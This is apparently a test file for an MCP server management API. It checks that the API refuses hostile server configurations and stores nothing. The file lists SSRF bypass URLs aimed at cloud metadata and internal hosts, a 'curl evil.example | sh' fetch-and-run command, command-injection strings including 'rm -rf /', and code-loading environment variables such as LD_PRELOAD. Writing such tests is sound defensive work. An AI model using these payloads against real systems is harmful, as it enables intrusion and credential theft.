import { useApi } from '@mcp-fleet/api/shared/testing';
import type { ApiError, McpServer } from '@mcp-fleet/shared/contracts';

/** Remote URLs an attacker would register to reach internal services or cloud metadata. */
const HOSTILE_URLS = [
  'http://169.254.169.254/latest/meta-data/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://100.100.100.200/latest/meta-data/',
  'http://2852039166/',
  'http://0xa9fea9fe/',
  'http://0251.0376.0251.0376/',
  'http://169.254.43518/',
  'http://[::ffff:169.254.169.254]/',
  'http://[::ffff:a9fe:a9fe]/',
  'http://127.0.0.1:5432/',
  'http://localhost:6379/',
  'http://127.1/',
  'http://2130706433/',
  'http://0x7f000001/',
  'http://0177.0.0.1/',
  'http://[::1]/',
  'http://[::ffff:127.0.0.1]/',
  'http://0.0.0.0/',
  'http://[::]/',
  'http://10.0.0.5/',
  'http://192.168.1.1/admin',
  'http://172.16.0.1/',
  'http://100.64.0.1/',
  'http://[fc00::1]/',
  'http://[fe80::1]/',
  'http://good.example.com@169.254.169.254/',
  'https://user:password@mcp.example.com/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:25/',
  'ftp://files.example.com/',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://169。254。169。254/',
  'http://ｌｏｃａｌｈｏｓｔ/',
  'http://localhost./',
  'http://sub.localhost/',
  'http://LOCALHOST/',
  'http://0/',
  'http://0x0/',
  'http://127.000.000.001/',
  'http://[0:0:0:0:0:ffff:127.0.0.1]/',
  'http://[::ffff:7f00:1]/',
  'http://[64:ff9b::169.254.169.254]/',
  'http://169.254.170.2/v2/credentials',
  'http://192.0.0.192/',
  'http://224.0.0.1/',
  'http://255.255.255.255/',
  'http://10.1/',
  'http://0xc0.0xa8.0x01.0x01/',
  'http://3232235777/',
  'https://[fd12:3456:789a::1]/',
  'http://metadata/computeMetadata/v1/',
  'http://instance-data/latest/',
  'http:/\\169.254.169.254/',
  'http://169.254.169.254%2f@example.com/',
  ' http://127.0.0.1/',
];

/** stdio configs that smuggle a shell or code-loading environment into the spawn. */
const HOSTILE_STDIO: [string, Record<string, unknown>][] = [
  ['a shell command line', { command: 'sh -c "curl evil.example | sh"' }],
  ['a command with ;', { command: 'node;rm' }],
  ['a command substitution', { command: '$(curl evil.example)' }],
  ['backticks', { command: '`id`' }],
  ['a pipe', { command: 'cat|sh' }],
  ['a relative path escape', { command: '../../bin/sh' }],
  ['a dot-relative path', { command: './payload' }],
  ['LD_PRELOAD', { command: 'node', env: { LD_PRELOAD: '/tmp/evil.so' } }],
  ['NODE_OPTIONS', { command: 'node', env: { NODE_OPTIONS: '--require /tmp/evil.js' } }],
  ['PYTHONPATH', { command: 'python3', env: { PYTHONPATH: '/tmp/evil' } }],
  ['npm_config_script_shell', { command: 'npx', env: { npm_config_script_shell: '/tmp/evil.sh' } }],
  [
    'NPM_CONFIG_NODE_OPTIONS',
    {
      command: 'npx',
      env: { NPM_CONFIG_NODE_OPTIONS: '--require /tmp/evil.js' },
    },
  ],
  ['BASH_ENV', { command: 'bash', env: { BASH_ENV: '/tmp/evil.sh' } }],
  ['OPENSSL_CONF', { command: 'node', env: { OPENSSL_CONF: '/tmp/evil.cnf' } }],
  ['HOME', { command: 'npx', env: { HOME: '/tmp/evil-home' } }],
];

describe('launch safety: what a server may be (production policy)', () => {
  const api = useApi({ ALLOW_PRIVATE_URLS: 'false' });

  it.each(HOSTILE_URLS)('refuses the remote URL %s with 400 URL_NOT_ALLOWED and stores nothing', async (url) => {
    const response = await api.post<ApiError>('/api/mcp/servers', {
      name: 'hostile-url',
      transport: 'streamable-http',
      config: { url },
    });

    expect(response.status).toBe(400);
    expect(response.body.code).toBe('URL_NOT_ALLOWED');
    expect(response.body.details).toEqual([expect.objectContaining({ field: 'config.url' })]);
    expect((await api.get<{ total: number }>('/api/mcp/servers?search=hostile')).body.total).toBe(0);
  });

  it.each(HOSTILE_STDIO)('refuses %s with 400 STDIO_NOT_ALLOWED', async (_, config) => {
    const response = await api.post<ApiError>('/api/mcp/servers', {
      name: 'hostile-stdio',
      transport: 'stdio',
      config,
    });

    expect(response.status).toBe(400);
    expect(response.body.code).toBe('STDIO_NOT_ALLOWED');
  });

  it('refuses code-loading env from two families, naming each field and its family', async () => {
    const response = await api.post<ApiError>('/api/mcp/servers', {
      name: 'hostile-env',
      transport: 'stdio',
      config: {
        command: 'node',
        args: ['server.js'],
        env: {
          LOG_LEVEL: 'debug',
          OPENSSL_CONF: '/tmp/evil.cnf',
          PIP_INDEX_URL: 'https://pypi.evil.example/simple',
        },
      },
    });
    const details = response.body.details as {
      field: string;
      code: string;
      message: string;
    }[];

    expect([response.status, response.body.code]).toEqual([400, 'STDIO_NOT_ALLOWED']);
    expect(details.map((detail) => [detail.field, detail.code])).toEqual([
      ['config.env.OPENSSL_CONF', 'ENV_NOT_ALLOWED'],
      ['config.env.PIP_INDEX_URL', 'ENV_NOT_ALLOWED'],
    ]);
    expect(details[0]?.message).toMatch(/^OPENSSL_CONF is refused: TLS library configuration can load code/);
    expect(details[1]?.message).toMatch(/^PIP_INDEX_URL is refused: Python package manager configuration /);
    expect(response.body.message).toContain('OPENSSL_CONF is refused');
    expect((await api.get<{ total: number }>('/api/mcp/servers?search=hostile-env')).body.total).toBe(0);
  });

  it('treats shell metacharacters in args as plain data (no shell is ever used)', async () => {
    const response = await api.post<McpServer>('/api/mcp/servers', {
      name: 'args-are-data',
      transport: 'stdio',
      config: {
        command: 'npx',
        args: ['-y', 'pkg; rm -rf /', '$(id)', '`id`'],
      },
    });

    expect(response.status).toBe(201);
  });

  it('accepts a public https endpoint', async () => {
    const response = await api.post('/api/mcp/servers', {
      name: 'public',
      transport: 'sse',
      config: { url: 'https://mcp.example.com/sse' },
    });

    expect(response.status).toBe(201);
  });

  it('applies the same policy to edits', async () => {
    const created = await api.post<McpServer>('/api/mcp/servers', {
      name: 'edited',
      transport: 'sse',
      config: { url: 'https://mcp.example.com/sse' },
    });

    const response = await api.patch<ApiError>(`/api/mcp/servers/${created.body.id}`, {
      version: 1,
      config: { url: 'http://169.254.169.254/' },
    });

    expect([response.status, response.body.code]).toEqual([400, 'URL_NOT_ALLOWED']);
  });
});

describe('launch safety with an allowlist and the development policy', () => {
  const api = useApi({
    ALLOW_PRIVATE_URLS: 'true',
    STDIO_ALLOWED_COMMANDS: 'npx,uvx',
    STDIO_ALLOWED_ENV: 'NODE_OPTIONS',
  });

  it('lets loopback through but never cloud metadata', async () => {
    const local = await api.post('/api/mcp/servers', {
      name: 'local',
      transport: 'streamable-http',
      config: { url: 'http://127.0.0.1:8080/mcp' },
    });
    const metadata = await api.post<ApiError>('/api/mcp/servers', {
      name: 'meta',
      transport: 'sse',
      config: { url: 'http://169.254.169.254/' },
    });

    expect(local.status).toBe(201);
    expect([metadata.status, metadata.body.code]).toEqual([400, 'URL_NOT_ALLOWED']);
  });

  it('runs only allowlisted commands', async () => {
    const allowed = await api.post('/api/mcp/servers', {
      name: 'allowed',
      transport: 'stdio',
      config: { command: 'npx' },
    });
    const other = await api.post<ApiError>('/api/mcp/servers', {
      name: 'other',
      transport: 'stdio',
      config: { command: 'python3' },
    });

    expect(allowed.status).toBe(201);
    expect([other.status, other.body.code]).toEqual([400, 'STDIO_NOT_ALLOWED']);
  });

  it('honours an operator override of the env denylist', async () => {
    const response = await api.post('/api/mcp/servers', {
      name: 'tuned',
      transport: 'stdio',
      config: {
        command: 'npx',
        env: { NODE_OPTIONS: '--max-old-space-size=512' },
      },
    });

    expect(response.status).toBe(201);
  });
});
